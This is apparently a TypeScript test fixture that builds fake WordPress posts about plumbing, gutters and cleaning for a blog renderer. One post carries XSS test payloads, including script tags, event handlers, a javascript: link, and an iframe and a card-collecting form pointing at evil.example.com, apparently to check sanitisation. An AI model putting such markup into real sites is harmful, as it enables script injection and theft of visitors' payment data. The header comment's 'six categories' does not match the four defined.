// Test-only content for the fake WordPress: six categories, posts across them, one with Yoast fields, one
// without anything optional, and one carrying script payloads.
import type { FakeCategory, FakePost, FakeSiteOptions } from './fakeWordPress';

export const CATEGORIES: FakeCategory[] = [
  { id: 7, name: 'Plumbing', slug: 'plumbing' },
  { id: 8, name: 'Home Maintenance', slug: 'home-maintenance' },
  { id: 9, name: 'Pro Tips &amp; Business', slug: 'pro-business' },
  { id: 10, name: 'Cleaning', slug: 'cleaning' },
];

export const YOAST_POST: FakePost = {
  id: 412,
  slug: 'why-pipes-freeze',
  title: 'Why Your Pipes Freeze &#8211; and How to Stop It',
  excerpt:
    '<p>Cold snaps crack pipes&#8230; Here&#8217;s what a plumber checks first &amp; why insulation matters.</p>\n',
  content:
    '<p>Cold snaps crack pipes. Read our <a href="https://blog.example.com/winter-checklist/">winter checklist</a>.</p>\n<h2>Insulate first</h2>\n<p>Foam sleeves are cheap.</p>',
  categoryId: 7,
  authorName: 'Dana Reyes',
  dateGmt: '2024-01-15T14:30:00',
  imageUrl: 'https://blog.example.com/wp-content/uploads/2024/01/frozen-pipe.jpg',
  views: 900,
  yoast: {
    title: 'Why Your Pipes Freeze - and How to Stop It - Prohive Blog',
    description: 'Cold snaps crack pipes. Here&#039;s what a plumber checks first.',
    robots: { index: 'noindex', follow: 'follow', 'max-snippet': 'max-snippet:-1' },
    canonical: 'https://blog.example.com/why-pipes-freeze/',
    og_locale: 'en_US',
    og_type: 'article',
    og_title: 'Why Your Pipes Freeze',
    og_description: 'Cold snaps crack pipes.',
    og_url: 'https://blog.example.com/why-pipes-freeze/',
    og_image: [
      {
        width: 1200,
        height: 800,
        url: 'https://blog.example.com/wp-content/uploads/2024/01/frozen-pipe.jpg',
        type: 'image/jpeg',
      },
    ],
    twitter_card: 'summary_large_image',
    twitter_title: 'Frozen pipes, explained',
    schema: {
      '@context': 'https://schema.org',
      '@graph': [
        {
          '@type': 'Article',
          '@id': 'https://blog.example.com/why-pipes-freeze/#article',
          headline: 'Why Your Pipes Freeze',
        },
      ],
    },
  },
};

export const BARE_POST: FakePost = {
  id: 501,
  slug: 'gutter-cleaning-guide',
  title: 'A Guide to Gutter Cleaning',
  excerpt: '<p>Clear gutters protect your roof and foundation.</p>\n',
  content: '<p>Twice a year is enough for most homes.</p>',
  categoryId: 8,
  dateGmt: '2024-02-10T08:00:00',
};

export const HOSTILE_POST: FakePost = {
  id: 666,
  slug: 'hostile-markup',
  title: 'Spring Cleaning Checklist',
  excerpt: '<p>Fresh start.</p>\n',
  content: [
    '<p>Start with the windows.</p>',
    '<script>window.__blogPwned = "script";</script>',
    '<img src="x" onerror="window.__blogPwned = \'onerror\'" alt="broken">',
    '<p onclick="window.__blogPwned = \'onclick\'">Then the floors.</p>',
    '<a href="javascript:window.__blogPwned=\'href\'">Click me</a>',
    '<iframe src="https://evil.example.com/"></iframe>',
    '<svg><script>window.__blogPwned = "svg"</script><circle r="4"></circle></svg>',
    '<style>body { display: none }</style>',
    '<form action="https://evil.example.com/"><input name="card"></form>',
    '<a href="https://example.org/" target="_blank">Outside</a>',
  ].join('\n'),
  categoryId: 10,
  authorName: 'Sam Ortiz',
  dateGmt: '2024-04-02T10:00:00',
};

export const PRO_POST: FakePost = {
  id: 700,
  slug: 'pricing-your-services',
  title: 'Pricing Your Services',
  excerpt: '<p>Charge for your time, your travel and your tools.</p>\n',
  categoryId: 9,
  authorName: 'Jordan Lee',
  dateGmt: '2023-11-20T09:00:00',
};

/** Filler posts so the list spans several pages: `count` posts in Plumbing / Home Maintenance / Cleaning. */
export function fillerPosts(count: number, startId = 1000): FakePost[] {
  const categories = [7, 8, 10];
  return Array.from({ length: count }, (_, index) => {
    const day = String((index % 27) + 1).padStart(2, '0');
    const month = String(Math.floor(index / 27) + 5).padStart(2, '0');
    return {
      id: startId + index,
      slug: `home-tip-${index + 1}`,
      title: `Home tip number ${index + 1}`,
      excerpt: `<p>Practical advice number ${index + 1} for homeowners.</p>\n`,
      categoryId: categories[index % categories.length],
      authorName: 'Alex Kim',
      dateGmt: `2024-${month}-${day}T09:00:00`,
      views: index < 6 ? 100 - index : 0,
    };
  });
}

/** A site with the four special posts plus `filler` more (newest first: the filler, then these). */
export function blogSite(filler = 0): FakeSiteOptions {
  return {
    categories: CATEGORIES,
    posts: [YOAST_POST, BARE_POST, HOSTILE_POST, PRO_POST, ...fillerPosts(filler)],
  };
}
